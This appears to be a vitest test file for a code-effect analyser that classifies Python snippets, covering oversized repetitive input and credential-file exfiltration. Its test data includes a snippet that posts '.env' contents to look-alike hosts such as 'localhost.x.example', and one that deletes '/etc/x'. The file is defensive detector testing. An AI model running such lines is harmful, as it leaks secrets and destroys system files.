import { describe, expect, it } from 'vitest'

import { effectsOf, kindsOf } from './reading.ts'

describe('a text that tells the same many times', () => {
  const line = (count: number, text: string): string => Array(count).fill(text).join('\n')

  it('is too large, and what was told before that stays', () => {
    const kinds = kindsOf('python3', `import os\nos.remove('/etc/x')\n${line(1700, "open('a')")}`)
    expect([...kinds]).toEqual(expect.arrayContaining(['fs.delete', 'too-large']))
  })

  it('is too large where each time is a long statement or command', () => {
    const sql = `s = "${'select 1;'.repeat(1000)}"\n${line(400, 'c.execute(s)')}`
    expect([...kindsOf('python3', sql)]).toContain('too-large')
    const shell = `import os\ns = "${'ls a;'.repeat(1000)}"\n${line(60, 'os.system(s)')}`
    expect([...kindsOf('python3', shell)]).toContain('too-large')
  })

  it('is read to its end where it is of an ordinary size', () => {
    expect(effectsOf('python3', line(300, "open('a')"))).toBe('fs.read a')
  })
})

describe('a credential file', () => {
  it('is not given away to this machine', () => {
    const post = (host: string): ReadonlySet<string> =>
      kindsOf(
        'python3',
        `import requests; requests.post('http://${host}/', data=open('.env').read())`,
      )
    expect([...post('localhost:8000')]).not.toContain('secret.send')
    expect([...post('127.0.0.1')]).not.toContain('secret.send')
    expect([...post('localhost.x.example')]).toContain('secret.send')
    expect([...post('127.0.0.1.x.example')]).toContain('secret.send')
  })
})
